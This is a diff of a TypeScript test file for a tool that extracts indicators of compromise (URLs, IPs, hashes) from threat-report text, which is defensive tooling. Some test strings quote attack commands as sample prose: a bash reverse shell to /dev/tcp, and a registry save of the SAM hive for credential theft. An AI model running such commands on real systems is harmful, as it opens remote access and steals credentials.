@@ -17,12 +17,18 @@ describe("the article's own URL and site", () => {
     expect(values(text, url)).toEqual(['domain update-cdn.info']);
   });
 
-  it('keeps everything when no article URL is given', () => {
-    expect(values('Published at https://www.bleepingcomputer.com/news/x/ today.')).toEqual(['url https://www.bleepingcomputer.com/news/x/']);
+  it('knows no site of its own when no article URL is given', () => {
+    const extraction = extractIocs('The stealer posted to hxxps://reports.example-blog[.]net/x/ today.', { html: false });
+    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['https://reports.example-blog.net/x/']);
+  });
+
+  it("the article's own pages are its references", () => {
+    const extraction = extractIocs(`Originally published at ${url}.`, { html: false, articleUrl: url });
+    expect(extraction.references.map((r) => [r.value, r.reason])).toEqual([[url, 'own_site']]);
   });
 
   it('a site on a shared platform is only its own subdomain', () => {
-    const text = 'Read more at https://researcher.github.io/posts/2 and the loader came from https://attacker.github.io/x.js today.';
+    const text = 'Read more at https://researcher.github.io/posts/2 today. The loader came from https://attacker.github.io/x.js today.';
     expect(values(text, 'https://researcher.github.io/posts/1')).toEqual(['url https://attacker.github.io/x.js']);
   });
 });
@@ -82,7 +88,7 @@ describe('version numbers that look like IPs', () => {
   });
 
   it('a range of addresses is not a range of versions', () => {
-    expect(values('The scans came from 45.77.12.0 through 45.77.12.255 all night.')).toEqual(['ipv4 45.77.12.0', 'ipv4 45.77.12.255']);
+    expect(values('The attackers scanned from 45.77.12.0 through 45.77.12.255 all night.')).toEqual(['ipv4 45.77.12.0', 'ipv4 45.77.12.255']);
   });
 
   it('a defanged address after "version" is still an address', () => {
@@ -118,5 +124,84 @@ describe('other look-alikes', () => {
 
   it('ip:port keeps the address, CIDR keeps the network', () => {
     expect(values('C2 at 45[.]77[.]12[.]9:8443 and the range 91[.]149[.]0[.]0/16 were seen.')).toEqual(['ipv4 45.77.12.9', 'ipv4 91.149.0.0/16']);
+  });
+});
+
+/** What an extraction held back, as `reason value`. */
+function suppressed(text: string, html = false): string[] {
+  return extractIocs(text, { html }).suppressed.map((value) => `${value.reason} ${value.value}`);
+}
+
+describe('hashes that are not file hashes', () => {
+  it('JA3 and JA3S fingerprints and imphashes, by their label or their column, are not MD5s of files', () => {
+    const text = 'The C2 used the TLS client JA3: 72a589da586844d7f0818ce684948eea and the server JA3S 15af977ce25de452b96affa2addb1036; the loader imphash is f34d5f2d4577ed6d9ceec516c1f5a744.';
+    expect(values(text)).toEqual([]);
+    expect(suppressed(text)).toEqual([
+      'not_a_file_hash:ja3 72a589da586844d7f0818ce684948eea',
+      'not_a_file_hash:ja3s 15af977ce25de452b96affa2addb1036',
+      'not_a_file_hash:imphash f34d5f2d4577ed6d9ceec516c1f5a744',
+    ]);
+    const table = '<h2>Indicators of Compromise</h2><table><tr><th>MD5</th><th>Imphash</th></tr><tr><td>0f1e2d3c4b5a69788796a5b4c3d2e1f0</td><td>f34d5f2d4577ed6d9ceec516c1f5a744</td></tr></table>';
+    expect(extractIocs(table, { html: true }).iocs.map((ioc) => ioc.value)).toEqual(['0f1e2d3c4b5a69788796a5b4c3d2e1f0']);
+  });
+});
+
+describe("a certificate's fields", () => {
+  it('a faked common name and the subject e-mail are no indicators, and the field name is not glued on', () => {
+    const text = 'The C2 server presented a certificate with Subject: C=US, O=Microsoft, CN=www.microsoft-update.info, emailAddress=admin@microsoft-update.info';
+    expect(values(text)).toEqual([]);
+    expect(suppressed(text)).toEqual(['certificate_field www.microsoft-update.info', 'certificate_field admin@microsoft-update.info']);
+  });
+});
+
+describe('versions, placeholders, command lines, code', () => {
+  it('a dotted quad in a patch table\'s version column is a version', () => {
+    const html = '<table><tr><th>Product</th><th>Fixed version</th></tr><tr><td>BIG-IP</td><td>14.1.4.4</td></tr></table>';
+    expect(extractIocs(html, { html: true }).suppressed.map((v) => [v.value, v.reason])).toEqual([['14.1.4.4', 'version_number']]);
+  });
+
+  it('firmware numbers in prose are versions', () => {
+    expect(values('The attackers exploited routers on firmware version is 6.50.5.5 or older, the C2 sat at 45[.]77[.]12[.]9.')).toEqual(['ipv4 45.77.12.9']);
+  });
+
+  it('xxx.xxx.xxx.xxx and URLs built on it are placeholders', () => {
+    const text = 'The malware beacons to its C2 at xxx.xxx.xxx.xxx over hxxp://xxx.xxx.xxx.xxx/gate.php every minute.';
+    expect(values(text)).toEqual([]);
+    expect(suppressed(text).every((line) => line.startsWith('placeholder '))).toBe(true);
+  });
+
+  it('a reverse shell to /dev/tcp names the address, not a URL', () => {
+    expect(values('The attackers ran bash -i >& /dev/tcp/45.77.12.9/4444 0>&1 for a reverse shell.')).toEqual(['ipv4 45.77.12.9']);
+  });
+
+  it('method calls and file names on word TLDs are code', () => {
+    const text = 'The malicious script calls f.read(), then subprocess.call to run reg save hklm\\sam sam.save, and queries process.name.';
+    expect(values(text)).toEqual([]);
+  });
+
+  it('links run together are two links', () => {
+    const extraction = extractIocs('Payload at hxxps://evil-cdn[.]net/a/athletehttps://t.co/AbCdEf123 today.', { html: false });
+    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['https://evil-cdn.net/a/athlete']);
+    expect(extraction.references.map((r) => r.value)).toEqual(['https://t.co/AbCdEf123']);
+  });
+
+  it('a name in a file-name column is a file, a defanged one is still a host', () => {
+    const text = '== Files\n\n|SHA-1 |Filename |Detection\n|6999730D0715606D14ACD19329AF0685B8AD0299 |et2z7q0FREZ.cr |Win64/Nightclub.B\n';
+    expect(values(text)).toEqual(['sha1 6999730d0715606d14acd19329af0685b8ad0299']);
+  });
+});
+
+describe('a value wrapped inside a table cell', () => {
+  it('a URL and a SHA-256 broken by a line break in one cell are joined; two values on two lines are not', () => {
+    const html =
+      '<h2>Indicators of Compromise</h2><table><tr><td>hxxps://files-update[.]net/download/stage2/<br>payload_x64.bin</td></tr>' +
+      '<tr><td>9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd1<br>5d6c15b0f00a08</td></tr>' +
+      '<tr><td>hxxp://a-evil[.]com/x<br>b-evil[.]net</td></tr></table>';
+    expect(extractIocs(html, { html: true }).iocs.map((ioc) => ioc.value)).toEqual([
+      'https://files-update.net/download/stage2/payload_x64.bin',
+      '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+      'http://a-evil.com/x',
+      'b-evil.net',
+    ]);
   });
 });
